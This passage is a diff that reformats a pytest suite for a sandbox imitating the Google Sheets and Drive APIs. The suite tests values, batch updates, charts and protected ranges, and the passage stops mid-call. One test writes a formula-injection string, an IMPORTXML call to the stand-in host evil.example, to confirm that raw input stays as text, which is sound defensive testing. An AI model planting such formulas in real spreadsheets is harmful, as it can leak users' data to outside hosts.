@@ -20,8 +20,9 @@ RECORDINGS = Path(__file__).resolve().parents[3] / "shared" / "fidelity" / "gspr
 SHEETS_HOST = "sheets.googleapis.com"
 DRIVE_CREATE = "https://www.googleapis.com/drive/v3/files?"
 # Fields whose values the server makes up (ids); the replay maps recorded ones to ours.
-ID_FIELDS = frozenset({"spreadsheetId", "sheetId", "namedRangeId", "protectedRangeId", "chartId",
-                       "id"})
+ID_FIELDS = frozenset(
+    {"spreadsheetId", "sheetId", "namedRangeId", "protectedRangeId", "chartId", "id"}
+)
 PROTECTED_COLUMN = "C"
 ACK_HEADER = ["Date", "Topic", "Acknowledged"]
 
@@ -47,24 +48,43 @@ def new_spreadsheet(kit: SandboxKit, owner: str = ALICE, **body: Any) -> str:
 
 def share(kit: SandboxKit, file_id: str, user: str, role: str = "writer") -> None:
     permission = {"type": "user", "role": role, "emailAddress": user}
-    run(kit, kit.drive.permissions().create(fileId=file_id, body=permission,
-                                            sendNotificationEmail=False))
+    run(
+        kit,
+        kit.drive.permissions().create(
+            fileId=file_id, body=permission, sendNotificationEmail=False
+        ),
+    )
 
 
 def values(kit: SandboxKit, sid: str, range_: str, user: str = ALICE, **params: Any) -> Any:
-    return run(kit, kit.sheets.spreadsheets().values().get(spreadsheetId=sid, range=range_,
-                                                            **params), user)
+    return run(
+        kit, kit.sheets.spreadsheets().values().get(spreadsheetId=sid, range=range_, **params), user
+    )
 
 
-def update(kit: SandboxKit, sid: str, range_: str, rows: list[list[Any]], user: str = ALICE,
-           option: str = "RAW") -> Any:
-    return run(kit, kit.sheets.spreadsheets().values().update(
-        spreadsheetId=sid, range=range_, valueInputOption=option, body={"values": rows}), user)
+def update(
+    kit: SandboxKit,
+    sid: str,
+    range_: str,
+    rows: list[list[Any]],
+    user: str = ALICE,
+    option: str = "RAW",
+) -> Any:
+    return run(
+        kit,
+        kit.sheets.spreadsheets()
+        .values()
+        .update(spreadsheetId=sid, range=range_, valueInputOption=option, body={"values": rows}),
+        user,
+    )
 
 
 def batch(kit: SandboxKit, sid: str, requests: list[dict[str, Any]], user: str = ALICE) -> Any:
-    return run(kit, kit.sheets.spreadsheets().batchUpdate(
-        spreadsheetId=sid, body={"requests": requests}), user)
+    return run(
+        kit,
+        kit.sheets.spreadsheets().batchUpdate(spreadsheetId=sid, body={"requests": requests}),
+        user,
+    )
 
 
 def metadata(kit: SandboxKit, sid: str, user: str = ALICE, **params: Any) -> Any:
@@ -78,12 +98,26 @@ def test_a_new_spreadsheet_answers_the_recorded_shape(sandbox: SandboxKit) -> No
     sid = new_spreadsheet(sandbox)
     got = metadata(sandbox, sid)
     assert list(got) == ["spreadsheetId", "properties", "sheets", "spreadsheetUrl"]
-    assert list(got["properties"]) == ["title", "locale", "autoRecalc", "timeZone",
-                                       "defaultFormat", "spreadsheetTheme"]
+    assert list(got["properties"]) == [
+        "title",
+        "locale",
+        "autoRecalc",
+        "timeZone",
+        "defaultFormat",
+        "spreadsheetTheme",
+    ]
     assert got["properties"]["title"] == "Growth plan"
-    assert got["sheets"] == [{"properties": {
-        "sheetId": 0, "title": "Sheet1", "index": 0, "sheetType": "GRID",
-        "gridProperties": {"rowCount": 1000, "columnCount": 26}}}]
+    assert got["sheets"] == [
+        {
+            "properties": {
+                "sheetId": 0,
+                "title": "Sheet1",
+                "index": 0,
+                "sheetType": "GRID",
+                "gridProperties": {"rowCount": 1000, "columnCount": 26},
+            }
+        }
+    ]
     assert got["spreadsheetUrl"] == f"https://docs.google.com/spreadsheets/d/{sid}/edit"
 
 
@@ -94,9 +128,9 @@ def test_a_new_spreadsheet_answers_the_recorded_shape(sandbox: SandboxKit) -> No
         ("unknown id", 404, "Requested entity was not found.", "NOT_FOUND"),
     ],
 )
-def test_unshared_and_unknown_spreadsheets_answer_like_sheets(sandbox: SandboxKit, who: str,
-                                                              code: int, message: str,
-                                                              status: str) -> None:
+def test_unshared_and_unknown_spreadsheets_answer_like_sheets(
+    sandbox: SandboxKit, who: str, code: int, message: str, status: str
+) -> None:
     sid = new_spreadsheet(sandbox) if who == "stranger" else "no-such-spreadsheet"
     error = error_of(lambda: metadata(sandbox, sid, user=BOB))
     assert error == {"code": code, "message": message, "status": status}
@@ -113,8 +147,10 @@ def test_a_reader_may_read_but_not_write(sandbox: SandboxKit) -> None:
 def test_a_fields_mask_trims_the_resource(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
     got = metadata(sandbox, sid, fields="properties.title,sheets.properties(sheetId,title)")
-    assert got == {"properties": {"title": "Growth plan"},
-                   "sheets": [{"properties": {"sheetId": 0, "title": "Sheet1"}}]}
+    assert got == {
+        "properties": {"title": "Growth plan"},
+        "sheets": [{"properties": {"sheetId": 0, "title": "Sheet1"}}],
+    }
 
 
 def test_grid_data_comes_back_for_the_ranges_asked(sandbox: SandboxKit) -> None:
@@ -146,7 +182,8 @@ def test_raw_keeps_text_and_user_entered_parses_like_the_ui(sandbox: SandboxKit)
 
 
 def test_a_formula_like_name_written_raw_through_gspread_reads_back_as_text(
-        sandbox: SandboxKit) -> None:
+    sandbox: SandboxKit,
+) -> None:
     name = '=IMPORTXML("https://evil.example", "//secret")'
     sheet = sandbox.gspread(ALICE).open_by_key(new_spreadsheet(sandbox)).sheet1
     sheet.update([[name]], "A1", value_input_option=gspread.utils.ValueInputOption.raw)
@@ -170,13 +207,19 @@ def test_a_formula_like_name_written_raw_through_gspread_reads_back_as_text(
         ("'It''s'", "'It''s'!A1:E5"),
     ],
 )
-def test_empty_ranges_are_echoed_normalised_without_values(sandbox: SandboxKit, asked: str,
-                                                           echoed: str) -> None:
-    sheets = [{"properties": {"title": "Sheet1"}},
-              {"properties": {"title": "My plan 🌱",
-                              "gridProperties": {"rowCount": 10, "columnCount": 10}}},
-              {"properties": {"title": "It's", "gridProperties": {"rowCount": 5,
-                                                                  "columnCount": 5}}}]
+def test_empty_ranges_are_echoed_normalised_without_values(
+    sandbox: SandboxKit, asked: str, echoed: str
+) -> None:
+    sheets = [
+        {"properties": {"title": "Sheet1"}},
+        {
+            "properties": {
+                "title": "My plan 🌱",
+                "gridProperties": {"rowCount": 10, "columnCount": 10},
+            }
+        },
+        {"properties": {"title": "It's", "gridProperties": {"rowCount": 5, "columnCount": 5}}},
+    ]
     sid = new_spreadsheet(sandbox, sheets=sheets)
     assert values(sandbox, sid, asked) == {"range": echoed, "majorDimension": "ROWS"}
 
@@ -184,8 +227,11 @@ def test_empty_ranges_are_echoed_normalised_without_values(sandbox: SandboxKit, 
 def test_an_unparseable_range_is_a_400(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
     error = error_of(lambda: values(sandbox, sid, "Nope!A1"))
-    assert error == {"code": 400, "message": "Unable to parse range: Nope!A1",
-                     "status": "INVALID_ARGUMENT"}
+    assert error == {
+        "code": 400,
+        "message": "Unable to parse range: Nope!A1",
+        "status": "INVALID_ARGUMENT",
+    }
 
 
 def test_writing_past_the_grid_is_refused(sandbox: SandboxKit) -> None:
@@ -200,46 +246,103 @@ def test_writing_past_the_grid_is_refused(sandbox: SandboxKit) -> None:
 
 def test_update_answers_an_update_values_response(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
-    got = run(sandbox, sandbox.sheets.spreadsheets().values().update(
-        spreadsheetId=sid, range="Sheet1!A1:B2", valueInputOption="RAW",
-        includeValuesInResponse=True, body={"values": [["a1", "B2"]]}))
-    assert got == {"spreadsheetId": sid, "updatedRange": "Sheet1!A1:B1", "updatedRows": 1,
-                   "updatedColumns": 2, "updatedCells": 2,
-                   "updatedData": {"range": "Sheet1!A1:B1", "majorDimension": "ROWS",
-                                   "values": [["a1", "B2"]]}}
+    got = run(
+        sandbox,
+        sandbox.sheets.spreadsheets()
+        .values()
+        .update(
+            spreadsheetId=sid,
+            range="Sheet1!A1:B2",
+            valueInputOption="RAW",
+            includeValuesInResponse=True,
+            body={"values": [["a1", "B2"]]},
+        ),
+    )
+    assert got == {
+        "spreadsheetId": sid,
+        "updatedRange": "Sheet1!A1:B1",
+        "updatedRows": 1,
+        "updatedColumns": 2,
+        "updatedCells": 2,
+        "updatedData": {
+            "range": "Sheet1!A1:B1",
+            "majorDimension": "ROWS",
+            "values": [["a1", "B2"]],
+        },
+    }
 
 
 def test_append_writes_after_the_table_and_reports_it(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
     update(sandbox, sid, "A1", [ACK_HEADER, ["2026-01-10", "Goals", "FALSE"]])
-    got = run(sandbox, sandbox.sheets.spreadsheets().values().append(
-        spreadsheetId=sid, range="Sheet1!A:C", valueInputOption="USER_ENTERED",
-        insertDataOption="INSERT_ROWS", body={"values": [["2026-02-01", "Skills", "TRUE"]]}))
-    assert got == {"spreadsheetId": sid, "tableRange": "Sheet1!A1:C2",
-                   "updates": {"spreadsheetId": sid, "updatedRange": "Sheet1!A3:C3",
-                               "updatedRows": 1, "updatedColumns": 3, "updatedCells": 3}}
+    got = run(
+        sandbox,
+        sandbox.sheets.spreadsheets()
+        .values()
+        .append(
+            spreadsheetId=sid,
+            range="Sheet1!A:C",
+            valueInputOption="USER_ENTERED",
+            insertDataOption="INSERT_ROWS",
+            body={"values": [["2026-02-01", "Skills", "TRUE"]]},
+        ),
+    )
+    assert got == {
+        "spreadsheetId": sid,
+        "tableRange": "Sheet1!A1:C2",
+        "updates": {
+            "spreadsheetId": sid,
+            "updatedRange": "Sheet1!A3:C3",
+            "updatedRows": 1,
+            "updatedColumns": 3,
+            "updatedCells": 3,
+        },
+    }
     assert values(sandbox, sid, "C3", valueRenderOption="UNFORMATTED_VALUE")["values"] == [[True]]
 
 
 def test_values_batch_update_reports_totals(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
-    got = run(sandbox, sandbox.sheets.spreadsheets().values().batchUpdate(
-        spreadsheetId=sid, body={"valueInputOption": "RAW", "data": [
-            {"range": "A1", "values": [["a", "b"]]},
-            {"range": "Sheet1!D4", "majorDimension": "COLUMNS", "values": [["c", "d"]]},
-        ]}))
+    got = run(
+        sandbox,
+        sandbox.sheets.spreadsheets()
+        .values()
+        .batchUpdate(
+            spreadsheetId=sid,
+            body={
+                "valueInputOption": "RAW",
+                "data": [
+                    {"range": "A1", "values": [["a", "b"]]},
+                    {"range": "Sheet1!D4", "majorDimension": "COLUMNS", "values": [["c", "d"]]},
+                ],
+            },
+        ),
+    )
     assert {k: v for k, v in got.items() if k != "responses"} == {
-        "spreadsheetId": sid, "totalUpdatedRows": 3, "totalUpdatedColumns": 3,
-        "totalUpdatedCells": 4, "totalUpdatedSheets": 1}
+        "spreadsheetId": sid,
+        "totalUpdatedRows": 3,
+        "totalUpdatedColumns": 3,
+        "totalUpdatedCells": 4,
+        "totalUpdatedSheets": 1,
+    }
     assert [r["updatedRange"] for r in got["responses"]] == ["Sheet1!A1:B1", "Sheet1!D4:D5"]
 
 
 def test_values_batch_update_writes_all_or_nothing(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
-    body = {"valueInputOption": "RAW", "data": [{"range": "A1", "values": [["written?"]]},
-                                                {"range": "Nope!A1", "values": [["x"]]}]}
-    error = error_of(lambda: run(sandbox, sandbox.sheets.spreadsheets().values().batchUpdate(
-        spreadsheetId=sid, body=body)))
+    body = {
+        "valueInputOption": "RAW",
+        "data": [
+            {"range": "A1", "values": [["written?"]]},
+            {"range": "Nope!A1", "values": [["x"]]},
+        ],
+    }
+    error = error_of(
+        lambda: run(
+            sandbox,
+            sandbox.sheets.spreadsheets().values().batchUpdate(spreadsheetId=sid, body=body),
+        )
+    )
     assert error["message"] == "Invalid data[1]: Unable to parse range: Nope!A1"
     assert "values" not in values(sandbox, sid, "A1")
 
@@ -247,17 +350,27 @@ def test_values_batch_update_writes_all_or_nothing(sandbox: SandboxKit) -> None:
 def test_batch_get_clear_and_batch_clear(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
     update(sandbox, sid, "A1", [["a", "b", "c"], ["d", "e", "f"]])
-    got = run(sandbox, sandbox.sheets.spreadsheets().values().batchGet(
-        spreadsheetId=sid, ranges=["A:A", "Sheet1!B2"], majorDimension="COLUMNS"))
+    got = run(
+        sandbox,
+        sandbox.sheets.spreadsheets()
+        .values()
+        .batchGet(spreadsheetId=sid, ranges=["A:A", "Sheet1!B2"], majorDimension="COLUMNS"),
+    )
     assert got["valueRanges"] == [
         {"range": "Sheet1!A1:A1000", "majorDimension": "COLUMNS", "values": [["a", "d"]]},
         {"range": "Sheet1!B2", "majorDimension": "COLUMNS", "values": [["e"]]},
     ]
-    cleared = run(sandbox, sandbox.sheets.spreadsheets().values().clear(
-        spreadsheetId=sid, range="A:A", body={}))
+    cleared = run(
+        sandbox,
+        sandbox.sheets.spreadsheets().values().clear(spreadsheetId=sid, range="A:A", body={}),
+    )
     assert cleared == {"spreadsheetId": sid, "clearedRange": "Sheet1!A1:A1000"}
-    many = run(sandbox, sandbox.sheets.spreadsheets().values().batchClear(
-        spreadsheetId=sid, body={"ranges": ["B1", "Sheet1!C2"]}))
+    many = run(
+        sandbox,
+        sandbox.sheets.spreadsheets()
+        .values()
+        .batchClear(spreadsheetId=sid, body={"ranges": ["B1", "Sheet1!C2"]}),
+    )
     assert many == {"spreadsheetId": sid, "clearedRanges": ["Sheet1!B1", "Sheet1!C2"]}
     assert values(sandbox, sid, "Sheet1")["values"] == [["", "", "c"], ["", "e"]]
 
@@ -266,17 +379,23 @@ def test_batch_get_clear_and_batch_clear(sandbox: SandboxKit) -> None:
     ("params", "message"),
     [
         ({}, "'valueInputOption' is required but not specified"),
-        ({"valueInputOption": "TYPED"},
-         "Invalid value at 'value_input_option' "
-         "(type.googleapis.com/google.apps.sheets.v4.ValueInputOption), \"TYPED\""),
+        (
+            {"valueInputOption": "TYPED"},
+            "Invalid value at 'value_input_option' "
+            '(type.googleapis.com/google.apps.sheets.v4.ValueInputOption), "TYPED"',
+        ),
     ],
 )
-def test_value_input_option_is_required_and_checked(sandbox: SandboxKit, params: dict[str, str],
-                                                    message: str) -> None:
+def test_value_input_option_is_required_and_checked(
+    sandbox: SandboxKit, params: dict[str, str], message: str
+) -> None:
     sid = new_spreadsheet(sandbox)
     session = sandbox.session(ALICE)
-    response = session.put(f"https://{SHEETS_HOST}/v4/spreadsheets/{sid}/values/A1",
-                           params=params, json={"values": [["x"]]})
+    response = session.put(
+        f"https://{SHEETS_HOST}/v4/spreadsheets/{sid}/values/A1",
+        params=params,
+        json={"values": [["x"]]},
+    )
     assert response.status_code == 400
     assert response.json()["error"]["message"] == message
 
@@ -288,13 +407,21 @@ def test_one_bad_request_and_nothing_in_the_batch_applies(sandbox: SandboxKit) -
     sid = new_spreadsheet(sandbox)
     requests = [
         {"addSheet": {"properties": {"title": "Conversations"}}},
-        {"updateCells": {"start": {"sheetId": 0}, "fields": "userEnteredValue",
-                         "rows": [{"values": [{"userEnteredValue": {"stringValue": "x"}}]}]}},
+        {
+            "updateCells": {
+                "start": {"sheetId": 0},
+                "fields": "userEnteredValue",
+                "rows": [{"values": [{"userEnteredValue": {"stringValue": "x"}}]}],
+            }
+        },
         {"deleteSheet": {"sheetId": 12345}},
     ]
     error = error_of(lambda: batch(sandbox, sid, requests))
-    assert error == {"code": 400, "message": "Invalid requests[2].deleteSheet: No grid with id: "
-                                             "12345", "status": "INVALID_ARGUMENT"}
+    assert error == {
+        "code": 400,
+        "message": "Invalid requests[2].deleteSheet: No grid with id: 12345",
+        "status": "INVALID_ARGUMENT",
+    }
     got = metadata(sandbox, sid)
     assert [s["properties"]["title"] for s in got["sheets"]] == ["Sheet1"]
     assert "values" not in values(sandbox, sid, "A1")
@@ -303,46 +430,87 @@ def test_one_bad_request_and_nothing_in_the_batch_applies(sandbox: SandboxKit) -
 @pytest.mark.parametrize(
     ("request_", "message"),
     [
-        ({"frobnicate": {}},
-         "Invalid JSON payload received. Unknown name \"frobnicate\" at 'requests[0]': "
-         "Cannot find field."),
-        ({"addSheet": {"properties": {"title": "sheet1"}}},
-         'Invalid requests[0].addSheet: A sheet with the name "sheet1" already exists. '
-         "Please enter another name."),
-        ({"sortRange": {"range": {"sheetId": 0}}},
-         "Invalid requests[0].sortRange: This request is not supported by the sandbox."),
-        ({"repeatCell": {"range": {"sheetId": 0, "startRowIndex": 1000}, "fields": "note",
-                         "cell": {"note": "x"}}},
-         "Invalid requests[0].repeatCell: Range (Sheet1!A1001) exceeds grid limits. "
-         "Max rows: 1000, max columns: 26"),
+        (
+            {"frobnicate": {}},
+            "Invalid JSON payload received. Unknown name \"frobnicate\" at 'requests[0]': "
+            "Cannot find field.",
+        ),
+        (
+            {"addSheet": {"properties": {"title": "sheet1"}}},
+            'Invalid requests[0].addSheet: A sheet with the name "sheet1" already exists. '
+            "Please enter another name.",
+        ),
+        (
+            {"sortRange": {"range": {"sheetId": 0}}},
+            "Invalid requests[0].sortRange: This request is not supported by the sandbox.",
+        ),
+        (
+            {
+                "repeatCell": {
+                    "range": {"sheetId": 0, "startRowIndex": 1000},
+                    "fields": "note",
+                    "cell": {"note": "x"},
+                }
+            },
+            "Invalid requests[0].repeatCell: Range (Sheet1!A1001) exceeds grid limits. "
+            "Max rows: 1000, max columns: 26",
+        ),
     ],
 )
-def test_invalid_requests_are_named_by_their_place_in_the_batch(sandbox: SandboxKit,
-                                                                 request_: dict[str, Any],
-                                                                 message: str) -> None:
+def test_invalid_requests_are_named_by_their_place_in_the_batch(
+    sandbox: SandboxKit, request_: dict[str, Any], message: str
+) -> None:
     sid = new_spreadsheet(sandbox)
     assert error_of(lambda: batch(sandbox, sid, [request_]))["message"] == message
 
 
 def test_replies_come_one_per_request_and_omit_defaults(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
-    grid = {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 2, "startColumnIndex": 0,
-            "endColumnIndex": 2}
-    got = batch(sandbox, sid, [
-        {"updateSpreadsheetProperties": {"properties": {"title": "Renamed"}, "fields": "title"}},
-        {"addNamedRange": {"namedRange": {"name": "Goals", "range": grid}}},
-        {"addSheet": {"properties": {"title": "Conversations",
-                                     "gridProperties": {"rowCount": 50, "columnCount": 4}}}},
-    ])
+    grid = {
+        "sheetId": 0,
+        "startRowIndex": 0,
+        "endRowIndex": 2,
+        "startColumnIndex": 0,
+        "endColumnIndex": 2,
+    }
+    got = batch(
+        sandbox,
+        sid,
+        [
+            {
+                "updateSpreadsheetProperties": {
+                    "properties": {"title": "Renamed"},
+                    "fields": "title",
+                }
+            },
+            {"addNamedRange": {"namedRange": {"name": "Goals", "range": grid}}},
+            {
+                "addSheet": {
+                    "properties": {
+                        "title": "Conversations",
+                        "gridProperties": {"rowCount": 50, "columnCount": 4},
+                    }
+                }
+            },
+        ],
+    )
     renamed, named, added = got["replies"]
     assert renamed == {}
     assert named["addNamedRange"]["namedRange"]["range"] == {
-        "startRowIndex": 0, "endRowIndex": 2, "startColumnIndex": 0, "endColumnIndex": 2}
+        "startRowIndex": 0,
+        "endRowIndex": 2,
+        "startColumnIndex": 0,
+        "endColumnIndex": 2,
+    }
     properties = added["addSheet"]["properties"]
     assert properties["sheetId"] > 0
-    assert properties == {"sheetId": properties["sheetId"], "title": "Conversations", "index": 1,
-                          "sheetType": "GRID",
-                          "gridProperties": {"rowCount": 50, "columnCount": 4}}
+    assert properties == {
+        "sheetId": properties["sheetId"],
+        "title": "Conversations",
+        "index": 1,
+        "sheetType": "GRID",
+        "gridProperties": {"rowCount": 50, "columnCount": 4},
+    }
     assert metadata(sandbox, sid)["properties"]["title"] == "Renamed"
     assert run(sandbox, sandbox.drive.files().get(fileId=sid))["name"] == "Renamed"
 
@@ -350,16 +518,33 @@ def test_replies_come_one_per_request_and_omit_defaults(sandbox: SandboxKit) -> 
 def test_dimension_and_sheet_property_requests_reshape_the_grid(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
     update(sandbox, sid, "A1", [["r1"], ["r2"], ["r3"]])
-    batch(sandbox, sid, [
-        {"insertDimension": {"range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1,
-                                       "endIndex": 2}}},
-        {"deleteDimension": {"range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 3,
-                                       "endIndex": 4}}},
-        {"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 4}},
-        {"updateSheetProperties": {"properties": {"sheetId": 0, "title": "Plan",
-                                                  "gridProperties": {"frozenRowCount": 1}},
-                                   "fields": "title,gridProperties.frozenRowCount"}},
-    ])
+    batch(
+        sandbox,
+        sid,
+        [
+            {
+                "insertDimension": {
+                    "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 1, "endIndex": 2}
+                }
+            },
+            {
+                "deleteDimension": {
+                    "range": {"sheetId": 0, "dimension": "ROWS", "startIndex": 3, "endIndex": 4}
+                }
+            },
+            {"appendDimension": {"sheetId": 0, "dimension": "COLUMNS", "length": 4}},
+            {
+                "updateSheetProperties": {
+                    "properties": {
+                        "sheetId": 0,
+                        "title": "Plan",
+                        "gridProperties": {"frozenRowCount": 1},
+                    },
+                    "fields": "title,gridProperties.frozenRowCount",
+                }
+            },
+        ],
+    )
     assert values(sandbox, sid, "Plan!A1:A4")["values"] == [["r1"], [], ["r2"]]
     grid = metadata(sandbox, sid)["sheets"][0]["properties"]["gridProperties"]
     assert grid == {"rowCount": 1000, "columnCount": 30, "frozenRowCount": 1}
@@ -368,10 +553,24 @@ def test_dimension_and_sheet_property_requests_reshape_the_grid(sandbox: Sandbox
 def test_a_checkbox_column_holds_booleans(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
     checkbox = {"condition": {"type": "BOOLEAN"}}
-    batch(sandbox, sid, [{"setDataValidation": {
-        "range": {"sheetId": 0, "startRowIndex": 1, "endRowIndex": 5, "startColumnIndex": 2,
-                  "endColumnIndex": 3},
-        "rule": checkbox}}])
+    batch(
+        sandbox,
+        sid,
+        [
+            {
+                "setDataValidation": {
+                    "range": {
+                        "sheetId": 0,
+                        "startRowIndex": 1,
+                        "endRowIndex": 5,
+                        "startColumnIndex": 2,
+                        "endColumnIndex": 3,
+                    },
+                    "rule": checkbox,
+                }
+            }
+        ],
+    )
     update(sandbox, sid, "C2", [["TRUE"], ["false"]], option="USER_ENTERED")
     assert values(sandbox, sid, "C2:C3")["values"] == [["TRUE"], ["FALSE"]]
     got = values(sandbox, sid, "C2:C3", valueRenderOption="UNFORMATTED_VALUE")
@@ -383,24 +582,41 @@ def test_a_checkbox_column_holds_booleans(sandbox: SandboxKit) -> None:
 
 def test_add_chart_replies_with_the_chart_and_shows_it_on_its_sheet(sandbox: SandboxKit) -> None:
     sid = new_spreadsheet(sandbox)
-    source = {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 5, "startColumnIndex": 0,
-              "endColumnIndex": 1}
-    spec = {"title": "Acknowledged by department", "basicChart": {
-        "chartType": "COLUMN", "legendPosition": "BOTTOM_LEGEND", "headerCount": 1,
-        "domains": [{"domain": {"sourceRange": {"sources": [source]}}}],
-        "series": [{"series": {"sourceRange": {"sources": [dict(source, startColumnIndex=1,
-                                                                endColumnIndex=2)]}},
-                    "targetAxis": "LEFT_AXIS"}]}}
-    position = {"overlayPosition": {"anchorCell": {"sheetId": 0, "rowIndex": 1,
-                                                   "columnIndex": 4}}}
+    source = {
+        "sheetId": 0,
+        "startRowIndex": 0,
+        "endRowIndex": 5,
+        "startColumnIndex": 0,
+        "endColumnIndex": 1,
+    }
+    spec = {
+        "title": "Acknowledged by department",
+        "basicChart": {
+            "chartType": "COLUMN",
+            "legendPosition": "BOTTOM_LEGEND",
+            "headerCount": 1,
+            "domains": [{"domain": {"sourceRange": {"sources": [source]}}}],
+            "series": [
+                {
+                    "series": {
+                        "sourceRange": {
+                            "sources": [dict(source, startColumnIndex=1, endColumnIndex=2)]
+                        }
+                    },
+                    "targetAxis": "LEFT_AXIS",
+                }
+            ],
+        },
+    }
+    position = {"overlayPosition": {"anchorCell": {"sheetId": 0, "rowIndex": 1, "columnIndex": 4}}}
     reply = batch(sandbox, sid, [{"addChart": {"chart": {"spec": spec, "position": position}}}])
     chart = reply["replies"][0]["addChart"]["chart"]
     assert isinstance(chart["chartId"], int) and chart["chartId"] > 0
     assert chart["spec"]["title"] == "Acknowledged by department"
     assert chart["spec"]["basicChart"]["domains"][0]["domain"]["sourceRange"]["sources"] == [
-        {"startRowIndex": 0, "endRowIndex": 5, "startColumnIndex": 0, "endColumnIndex": 1}]
-    assert chart["position"]["overlayPosition"]["anchorCell"] == {"rowIndex": 1,
-                                                                 "columnIndex": 4}
+        {"startRowIndex": 0, "endRowIndex": 5, "startColumnIndex": 0, "endColumnIndex": 1}
+    ]
+    assert chart["position"]["overlayPosition"]["anchorCell"] == {"rowIndex": 1, "columnIndex": 4}
     [shown] = metadata(sandbox, sid)["sheets"][0]["charts"]
     assert shown["chartId"] == chart["chartId"]
 
@@ -423,10 +639,21 @@ def protected_plan(kit: SandboxKit) -> str:
     sid = new_spreadsheet(kit)
     share(kit, sid, BOB)
     update(kit, sid, "A1", [ACK_HEADER])
-    batch(kit, sid, [{"addProtectedRange": {"protectedRange": {
-        "range": {"sheetId": 0, "startColumnIndex": 2, "endColumnIndex": 3},
-        "description": "Only the team member acknowledges",
-        "editors": {"users": [ALICE]}}}}])
+    batch(
+        kit,
+        sid,
+        [
+            {
+                "addProtectedRange": {
+                    "protectedRange": {
+                        "range": {"sheetId": 0, "startColumnIndex": 2, "endColumnIndex": 3},
+                        "description": "Only the team member acknowledges",
+                        "editors": {"users": [ALICE]},
+                    }
+                }
+            }
+        ],
+    )
     return sid
 
 
@@ -452,18 +679,54 @@ def test_gspread_sees_the_refusal_as_an_api_error(sandbox: SandboxKit) -> None:
 
 def test_every_write_path_honours_the_protection(sandbox: SandboxKit) -> None:
     sid = protected_plan(sandbox)
-    column_c = {"sheetId": 0, "startRowIndex": 1, "endRowIndex": 2, "startColumnIndex": 2,
-                "endColumnIndex": 3}
+    column_c = {
+        "sheetId": 0,
+        "startRowIndex": 1,
+        "endRowIndex": 2,
+        "startColumnIndex": 2,
+        "endColumnIndex": 3,
+    }
     attempts = [
-        lambda: run(sandbox, sandbox.sheets.spreadsheets().values().clear(
-            spreadsheetId=sid, range="C1", body={}), BOB),
-        lambda: run(sandbox, sandbox.sheets.spreadsheets().values().append(
-            spreadsheetId=sid, range="A1", valueInputOption="RAW",
-            body={"values": [["d", "t", "TRUE"]]}), BOB),
-        lambda: batch(sandbox, sid, [{"repeatCell": {"range": column_c, "fields": "note",
-                                                     "cell": {"note": "x"}}}], BOB),
-        lambda: batch(sandbox, sid, [{"deleteDimension": {"range": {
-            "sheetId": 0, "dimension": "COLUMNS", "startIndex": 2, "endIndex": 3}}}], BOB),
+        lambda: run(
+            sandbox,
+            sandbox.sheets.spreadsheets().values().clear(spreadsheetId=sid, range="C1", body={}),
+            BOB,
+        ),
+        lambda: run(
+            sandbox,
+            sandbox.sheets.spreadsheets()
+            .values()
+            .append(
+                spreadsheetId=sid,
+                range="A1",
+                valueInputOption="RAW",
+                body={"values": [["d", "t", "TRUE"]]},
+            ),
+            BOB,
+        ),
+        lambda: batch(
+            sandbox,
+            sid,
+            [{"repeatCell": {"range": column_c, "fields": "note", "cell": {"note": "x"}}}],
+            BOB,
+        ),
+        lambda: batch(
+            sandbox,
+            sid,
+            [
+                {
+                    "deleteDimension": {
+                        "range": {
+                            "sheetId": 0,
+                            "dimension": "COLUMNS",
+                            "startIndex": 2,
+                            "endIndex": 3,
+                        }
+                    }
+                }
+            ],
+            BOB,
+        ),
     ]
     for attempt in attempts:
         assert PROTECTED_MESSAGE in error_of(attempt)["message"]
@@ -476,18 +739,27 @@ def test_protection_editors_are_shown_only_to_those_who_may_edit(sandbox: Sandbo
     [as_manager] = metadata(sandbox, sid, user=BOB)["sheets"][0]["protectedRanges"]
     assert as_owner["editors"] == {"users": [ALICE]}
     assert as_owner["requestingUserCanEdit"] is True
-    assert as_manager == {"protectedRangeId": as_owner["protectedRangeId"],
-                          "range": {"startColumnIndex": 2, "endColumnIndex": 3},
-                          "description": "Only the team member acknowledges"}
+    assert as_manager == {
+        "protectedRangeId": as_owner["protectedRangeId"],
+        "range": {"startColumnIndex": 2, "endColumnIndex": 3},
+        "description": "Only the team member acknowledges",
+    }
 
 
 def test_only_an_editor_of_the_range_may_change_or_remove_its_protection(
-        sandbox: SandboxKit) -> None:
+    sandbox: SandboxKit,
+) -> None:
     sid = protected_plan(sandbox)
     protected_id = metadata(sandbox, sid)["sheets"][0]["protectedRanges"][0]["protectedRangeId"]
-    widen = {"updateProtectedRange": {"protectedRange": {
-        "protectedRangeId": protected_id, "editors": {"users": [ALICE, BOB]}},
-        "fields": "editors"}}
+    widen = {
+        "updateProtectedRange": {
+            "protectedRange": {
+                "protectedRangeId": protected_id,
+                "editors": {"users": [ALICE, BOB]},
+            },
+            "fields": "editors",
+        }
+    }
     remove = {"deleteProtectedRange": {"protectedRangeId": protected_id}}
     for request in (widen, remove):
         kind = next(iter(request))
@@ -500,12 +772,25 @@ def test_only_an_editor_of_the_range_may_change_or_remove_its_protection(
 
 
 def test_a_writer_may_protect_cells_they_can_edit_and_the_owner_stays_an_editor(
-        sandbox: SandboxKit) -> None:
+    sandbox: SandboxKit,
+) -> None:
     sid = new_spreadsheet(sandbox)
     share(sandbox, sid, CAROL)
-    reply = batch(sandbox, sid, [{"addProtectedRange": {"protectedRange": {
-        "range": {"sheetId": 0, "startRowIndex": 0, "endRowIndex": 1},
-        "editors": {"users": [CAROL]}}}}], user=CAROL)
+    reply = batch(
+        sandbox,
+        sid,
+        [
+            {
+                "addProtectedRange": {
+                    "protectedRange": {
